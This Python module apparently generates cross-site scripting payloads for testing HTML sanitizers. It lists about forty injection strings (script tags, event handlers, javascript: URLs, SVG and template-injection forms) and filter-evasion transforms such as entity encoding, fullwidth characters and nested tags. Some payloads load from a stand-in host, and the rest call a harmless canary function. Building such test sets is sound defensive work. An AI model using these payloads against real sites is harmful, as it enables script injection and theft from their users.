"""Words that try to be more than words on a page: each would call `hit(NUMBER)` if it could."""

import random
import re
from collections.abc import Callable
from itertools import product

HIT = "hit"
"""The function that a test puts in the page; called, it tells which one got through."""

ELSEWHERE = "//elsewhere.invalid"

BODIES = (
    "<script>{hit}</script>",
    "<script src={elsewhere}></script>",
    "<script/x>{hit}</script>",
    "<img src=x onerror={hit}>",
    "<img src=`x` onerror={hit}//",
    "<image href=x onerror={hit}>",
    "<svg onload={hit}>",
    "<svg/onload={hit}//",
    "<svg><script>{hit}</script></svg>",
    "<svg><animate onbegin={hit} attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,<svg/onload={hit}>>",
    "<svg><foreignObject><body onload={hit}></foreignObject>",
    "<math><mtext><table><mglyph><style><img src=x onerror={hit}>",
    "<details open ontoggle={hit}>x</details>",
    "<input autofocus onfocus={hit}>",
    "<select autofocus onfocus={hit}>",
    "<video><source onerror={hit}></video>",
    "<audio src=x onerror={hit}>",
    "<body onload={hit}>",
    "<marquee onstart={hit}>x",
    "<iframe src=javascript:{hit}></iframe>",
    "<iframe srcdoc='<script>parent.{hit}</script>'></iframe>",
    "<object data=javascript:{hit}></object>",
    "<embed src=javascript:{hit}>",
    "<a href=javascript:{hit}>x</a>",
    "<form action=javascript:{hit}><button autofocus>x",
    "<style>@import '{elsewhere}'</style>",
    "<style>*{{background:url({elsewhere})}}</style>",
    "<link rel=stylesheet href={elsewhere}>",
    "<meta http-equiv=refresh content='0;url=javascript:{hit}'>",
    "<base href={elsewhere}>",
    "<template><script>{hit}</script></template>",
    "<p style=animation-name:x onanimationstart={hit}>x",
    "<x contenteditable autofocus onfocus={hit} tabindex=1>x",
    " onmouseover={hit} autofocus onfocus={hit} x=",
    "javascript:{hit}",
    "{{{{ hit }}}}{{% for a in b %}}{hit}",
    "${{{hit}}}#{{{hit}}}<%= {hit} %>",
    "-{hit}-",
    ";{hit};//",
)
_BEFORE = (
    "", '"', "'", "`", '">', "'>", "-->", "]]>", '\\"', "</text>", "</title>", "</desc>",
    "</style>", "</script>", "</svg>", "</textarea>", "<!--><", "&quot;>", "\u2028",
    "/*-/*`/*\\`/*'/*\"/**/",
)  # fmt: skip


def _plain(text: str) -> str:
    return text


def _mixed_case(text: str) -> str:
    """Tags in mixed case; what is called keeps its name."""
    return re.sub(r"</?\w+", lambda tag: tag.group().title().swapcase(), text)


def _slashes(text: str) -> str:
    return text.replace(" ", "/")


def _tabs(text: str) -> str:
    return text.replace(" ", "\t")


def _entities(text: str) -> str:
    return text.replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")


def _numbers(text: str) -> str:
    return text.replace("<", "&#60;").replace(">", "&#x3e;")


def _percent(text: str) -> str:
    return text.replace("<", "%3C").replace(">", "%3E")


def _escapes(text: str) -> str:
    return text.replace("<", "\\u003c").replace(">", "\\x3e")


def _wide(text: str) -> str:
    """Signs that become the dangerous ones where somebody normalises them (NFKC)."""
    return text.replace("<", "\uff1c").replace(">", "\uff1e").replace('"', "\uff02")


def _doubled(text: str) -> str:
    return text.replace("<s", "<<s").replace("<i", "<<i")


def _unclosed(text: str) -> str:
    return text.rstrip(">")


def _joined(text: str) -> str:
    """With signs between that some filters drop."""
    return text.replace("<", "<\u200d").replace("on", "o\u00adn")


def _nested(text: str) -> str:
    return text.replace("<script", "<scr<script>ipt").replace("</script", "</scr</script>ipt")


_FORMS = (
    _plain, _mixed_case, _slashes, _tabs, _entities, _numbers, _percent, _escapes, _wide,
    _doubled, _unclosed, _joined, _nested,
)  # fmt: skip


MOST = len(_FORMS) * len(_BEFORE) * len(BODIES)


def payloads(count: int, seed: int = 1) -> list[str]:
    """That many different ones, each plain body first; at most `MOST`."""
    plain = [(_plain, "", body) for body in BODIES]
    others = [way for way in product(_FORMS, _BEFORE, BODIES) if way not in plain]
    random.Random(seed).shuffle(others)  # noqa: S311 - nothing is secret here
    chosen = [*plain, *others][:count]
    assert len(chosen) == count
    return [_made(number, *way) for number, way in enumerate(chosen)]


def _made(number: int, form: Callable[[str], str], before: str, body: str) -> str:
    return before + form(body.format(hit=f"{HIT}({number})", elsewhere=f"{ELSEWHERE}/{number}"))
